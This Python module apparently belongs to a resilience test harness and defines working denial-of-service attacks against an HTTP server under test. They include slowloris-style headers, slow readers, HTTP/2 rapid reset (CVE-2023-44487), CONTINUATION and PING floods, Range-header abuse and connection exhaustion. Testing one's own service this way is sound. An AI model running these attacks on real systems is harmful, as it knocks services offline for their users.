"""The attacks of `load`: each a coroutine `(attack, until)` that one client carries out."""

import asyncio
import socket
import struct
import time
from urllib.parse import quote

import http2
from wire import get


def head(path, method="GET", more=""):
    return f"{method} {path} HTTP/1.1\r\nHost: a\r\n{more}\r\n".encode()


async def connect(attack, receive_buffer=None):
    """A plain connection of the attacker, with a small buffer where it reads slowly."""
    sock = socket.socket()
    sock.setblocking(False)
    if receive_buffer:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
    sock.bind((attack.source, 0))
    try:
        async with asyncio.timeout(10):
            await asyncio.get_running_loop().sock_connect(sock, (attack.host, attack.port))
    except (OSError, TimeoutError):
        sock.close()
        return None
    return sock


async def trickle(attack, path, until, take, every=1.0):
    """Asks for something and takes `take` bytes every so often."""
    loop = asyncio.get_running_loop()
    sock = await connect(attack, 4096)
    if sock is None:
        attack.note("not connected")
        return
    try:
        await loop.sock_sendall(sock, head(path))
        first = await asyncio.wait_for(loop.sock_recv(sock, take), 20)
        attack.note(first[9:12].decode() if first else "closed at once")
        while first and time.monotonic() < until:
            await asyncio.sleep(every)
            if not await asyncio.wait_for(loop.sock_recv(sock, take), 20):
                attack.note("cut off")
                return
        attack.note("kept on")
    except TimeoutError:
        attack.note("nothing came")
    except OSError:
        attack.note("cut off")
    finally:
        sock.close()


async def slow_readers(attack, until):
    """60 readers of 31 MiB each, a little faster than the least rate."""
    await asyncio.gather(*(trickle(attack, f"/mirror/big/big/{i}", until, 2048) for i in range(60)))


async def stuck_readers(attack, until):
    """60 readers of 31 MiB each that take nothing."""
    await asyncio.gather(*(trickle(attack, f"/mirror/big/big/s{i}", until, 16, 20.0) for i in range(60)))


async def same_object(attack, until):
    """200 slow readers of one object."""
    await asyncio.gather(*(trickle(attack, "/mirror/big/big/same", until, 2048) for i in range(200)))


def streams(client, attack):
    for status, count, how in client.streams.values():
        attack.note(f"{status or 'unanswered'} {how or 'open'}")
    attack.note("connections closed" if client.closed else "connections open")
    if client.goaway:
        attack.note("GOAWAY")


async def http2_streams(attack, until, window=16_384, step=0, connections=1):
    clients = [await http2.Client().connect(attack.host, attack.port, attack.source, window) for _ in range(connections)]
    for number, client in enumerate(clients):
        for i in range(100):
            client.get(f"/mirror/big/big/h{number}-{i}")
    while time.monotonic() < until and not all(client.closed for client in clients):
        await asyncio.sleep(1)
        for client in clients:
            if step:
                for stream in list(client.streams):
                    client.open_window(stream, step)
    for client in clients:
        streams(client, attack)
        client.close()


async def http2_stuck(attack, until):
    """100 streams of 31 MiB each on one connection, that take their first window and no more."""
    await http2_streams(attack, until)


async def http2_trickle(attack, until):
    """The same, each taking 2 KiB a second."""
    await http2_streams(attack, until, step=2048)


async def http2_zero(attack, until):
    """The same on 20 connections with windows of nothing."""
    await http2_streams(attack, until, window=0, connections=20)


async def http2_resets(attack, until):
    """Requests that are reset at once (CVE-2023-44487)."""
    rounds = 0
    while time.monotonic() < until and rounds < 200:
        rounds += 1
        try:
            client = await http2.Client().connect(attack.host, attack.port, attack.source)
        except OSError:
            attack.note("not connected")
            await asyncio.sleep(0.5)
            continue
        for i in range(2_000):
            client.reset(client.get(f"/mirror/big/big/r{i}"))
            if i % 100 == 0:
                try:
                    await asyncio.wait_for(client.writer.drain(), 5)
                except (OSError, TimeoutError):
                    break
        attack.note("resets", 2_000)
        await asyncio.sleep(0.2)
        attack.note("connections closed" if client.closed or client.goaway else "connections open")
        client.close()


async def http2_frames(attack, until):
    """Pings, settings and empty frames without an end, and fields that never end (CONTINUATION)."""
    flood = [
        http2.frame(http2.PING, 0, 0, bytes(8)) * 500,
        http2.frame(http2.SETTINGS, 0, 0, struct.pack(">HI", 4, 9)) * 500,
        http2.frame(http2.PRIORITY, 0, 7, bytes(5)) * 500,
        http2.frame(http2.CONTINUATION, 0, 1, http2.literal("x", "y" * 8_000)) * 20,
        http2.frame(http2.DATA, 0, 1, b"") * 500,
    ]
    turn = 0
    while time.monotonic() < until:
        kind = turn % len(flood)
        turn += 1
        client = await http2.Client().connect(attack.host, attack.port, attack.source)
        if kind == 3:
            client.write(http2.frame(http2.HEADERS, 0, 1, http2.request_fields("/")))
        elif kind == 4:
            client.get("/mirror/big/upload", "POST", end=False)
        begun, count = time.monotonic(), 0
        while time.monotonic() - begun < 3 and not client.closed:
            client.write(flood[kind])
            count += 1
            try:
                await asyncio.wait_for(client.writer.drain(), 3)
            except (OSError, TimeoutError):
                break
        attack.note("floods cut off" if client.closed else "floods kept up")
        client.close()


async def abandoned_images(attack, until):
    """1,000 requests for slow images, each left after a moment."""
    async def one(number):
        address = quote(f"http://{attack.address}/slow/{number}.png", safe="")
        sock = await connect(attack)
        if sock is None:
            attack.note("not connected")
            return
        await asyncio.get_running_loop().sock_sendall(sock, head(f"/image?url={address}&w=50"))
        await asyncio.sleep(0.15)
        sock.close()

    for begin in range(0, 1_000, 50):
        await asyncio.gather(*(one(begin + i) for i in range(50)))
    stats = await attack.stats()
    attack.note("fetches open at once", stats.get("slow", 0))
    await asyncio.sleep(8)
    stats = await attack.stats()
    attack.note("fetches open 8 s later", stats.get("slow", 0))


async def abandoned_mirrors(attack, until):
    """1,000 requests for large objects, each left after a moment."""
    async def one(number):
        sock = await connect(attack)
        if sock:
            await asyncio.get_running_loop().sock_sendall(sock, head(f"/mirror/big/slow/{number}"))
            await asyncio.sleep(0.15)
            sock.close()

    for begin in range(0, 1_000, 50):
        await asyncio.gather(*(one(begin + i) for i in range(50)))
    await asyncio.sleep(8)
    attack.note("fetches open 8 s later", (await attack.stats()).get("slow", 0))


async def many(attack, until, paths, at_once, timeout=40):
    """All of these, so many at once; what came is noted."""
    queue = iter(paths)

    async def worker():
        for path in queue:
            if time.monotonic() > until:
                return
            answer = await get(attack.port, path, host=attack.host, source=attack.source, forwarded=None, timeout=timeout)
            attack.note({0: "cut off", -1: "no answer"}.get(answer.status, str(answer.status)))

    await asyncio.gather(*(worker() for _ in range(at_once)))


async def dead_names(attack, until):
    """Images at 5,000 names that nobody answers for."""
    paths = (f"/image?url=http%3A%2F%2Fn{i}.dead.example%2Fx.png&w=9" for i in range(5_000))
    await many(attack, until, paths, 250)
    attack.note("questions to the name server", (await attack.stats("names")).get("names", 0))


async def dead_feeds(attack, until):
    """5,000 feeds whose names nobody answers for, all asked for."""
    await many(attack, until, (f"/feeds/dead{i}" for i in range(5_000)), 250)
    attack.note("questions to the name server", (await attack.stats("names")).get("names", 0))


async def slow_uploads(attack, until, pause=1.0, piece=b"x"):
    """500 uploads of a byte a second each."""
    async def one(number):
        loop = asyncio.get_running_loop()
        sock = await connect(attack)
        if sock is None:
            attack.note("not connected")
            return
        try:
            await loop.sock_sendall(sock, head(f"/mirror/big/upload/{number}", "POST", "Content-Length: 10000000\r\n"))
            while time.monotonic() < until:
                await loop.sock_sendall(sock, piece)
                await asyncio.sleep(pause)
                try:
                    got = sock.recv(200)
                    attack.note(got[9:12].decode() if got else "cut off")
                    return
                except BlockingIOError:
                    pass
            attack.note("kept on")
        except OSError:
            attack.note("cut off")
        finally:
            sock.close()

    await asyncio.gather(*(one(i) for i in range(500)))
    attack.note("uploads open at the origin", (await attack.stats()).get("upload", 0))


async def fast_uploads(attack, until):
    """500 uploads above the least rate."""
    await slow_uploads(attack, until, 1.0, b"x" * 4096)


async def silent(attack, until):
    """10,000 connections that say nothing."""
    sockets = []
    for _ in range(10_000):
        sock = socket.socket()
        sock.setblocking(False)
        try:
            sock.bind((attack.source, 0))
            sock.connect((attack.host, attack.port))
        except BlockingIOError:
            pass
        except OSError:
            attack.note("not connected")
            sock.close()
            continue
        sockets.append(sock)
        if len(sockets) % 200 == 0:
            await asyncio.sleep(0.05)
    await asyncio.sleep(3)
    attack.note("open after 3 s", sum(still_open(sock) for sock in sockets))
    await asyncio.sleep(max(0.0, until - time.monotonic()))
    attack.note("open at the end", sum(still_open(sock) for sock in sockets))
    for sock in sockets:
        sock.close()


def still_open(sock):
    try:
        return sock.recv(1) != b""
    except BlockingIOError:
        return True
    except OSError:
        return False


async def slow_heads(attack, until):
    """250 connections that send their heads byte by byte."""
    async def one(number):
        loop = asyncio.get_running_loop()
        sock = await connect(attack)
        if sock is None:
            attack.note("not connected")
            return
        try:
            await loop.sock_sendall(sock, b"GET /healthz HTTP/1.1\r\nHost: a\r\n")
            while time.monotonic() < until:
                await loop.sock_sendall(sock, b"X-A: b\r\n")
                await asyncio.sleep(1)
                if not still_open(sock):
                    attack.note("cut off")
                    return
            attack.note("kept on")
        except OSError:
            attack.note("cut off")
        finally:
            sock.close()

    await asyncio.gather(*(one(i) for i in range(250)))


async def interim_floods(attack, until):
    """60 feeds and 60 images whose servers send interim answers without an end."""
    paths = [f"/feeds/flood{i}" for i in range(60)]
    paths += [f"/image?url={quote(f'http://{attack.address}/flood/{i}', safe='')}&w=9" for i in range(60)]
    await many(attack, until, paths, 120, timeout=60)


async def one_byte_chunks(attack, until):
    """Feeds of 4 MiB in chunks of a byte."""
    await many(attack, until, (f"/feeds/bytewise{i}" for i in range(60)), 8, timeout=60)


async def field_floods(attack, until):
    """Servers whose heads never end."""
    await many(attack, until, (f"/feeds/fields{i}" for i in range(60)), 20, timeout=60)


async def ranges(attack, until):
    """Thousands of ranges of an object that is kept, and one-byte ranges of many that are not."""
    await get(attack.port, "/mirror/big/mega/1", host=attack.host, source=attack.source, forwarded=None)
    many_ranges = "bytes=" + ",".join(f"{i * 3}-{i * 3}" for i in range(9_000))
    overlapping = "bytes=" + ",".join("0-" for _ in range(15_000))

    async def one(number, value, path):
        sock = await connect(attack)
        if sock is None:
            attack.note("not connected")
            return
        loop = asyncio.get_running_loop()
        try:
            await loop.sock_sendall(sock, head(path, more=f"Range: {value}\r\nConnection: close\r\n"))
            first = await asyncio.wait_for(loop.sock_recv(sock, 4096), 20)
            attack.note(first[9:12].decode() if first else "cut off")
        except (OSError, TimeoutError):
            attack.note("cut off")
        finally:
            sock.close()

    for begin in range(0, 1_000, 50):
        if time.monotonic() > until:
            break
        await asyncio.gather(*(
            one(i, [many_ranges, overlapping, "bytes=5-5"][i % 3], "/mirror/big/mega/1" if i % 3 < 2 else f"/mirror/big/big/one{begin + i}")
            for i in range(50)))


async def distinct_queries(attack, until):
    """3,000 objects of 1 MiB under distinct queries of one path; the feeds must stay."""
    await many(attack, until, (f"/mirror/big/mega?q={i}" for i in range(3_000)), 8)
    attack.has_publishers = False
    for publisher, _ in attack.publishers.values():
        publisher.kill()
    answer = await get(attack.port, "/feeds/good", host=attack.host, source="12.2.2.2", forwarded=None)
    attack.note(f"the feed afterwards: {answer.status}")


async def never_answers(attack, until):
    """60 feeds and 300 images whose server takes the request and is silent."""
    paths = [f"/feeds/never{i}" for i in range(60)]
    paths += [f"/image?url={quote(f'http://{attack.address}/never/{i}', safe='')}&w=9" for i in range(300)]
    await many(attack, until, paths, 250, timeout=60)


ATTACKS = {
    "http2-stuck": http2_stuck, "http2-trickle": http2_trickle, "http2-zero-windows": http2_zero, "http2-resets": http2_resets, "http2-frames": http2_frames,
    "slow-readers": slow_readers, "stuck-readers": stuck_readers, "same-object": same_object, "abandoned-images": abandoned_images,
    "abandoned-mirrors": abandoned_mirrors, "dead-names": dead_names, "dead-feeds": dead_feeds, "slow-uploads": slow_uploads, "fast-uploads": fast_uploads,
    "silent": silent, "slow-heads": slow_heads, "interim-floods": interim_floods, "one-byte-chunks": one_byte_chunks, "field-floods": field_floods,
    "ranges": ranges, "distinct-queries": distinct_queries, "never-answers": never_answers,
}
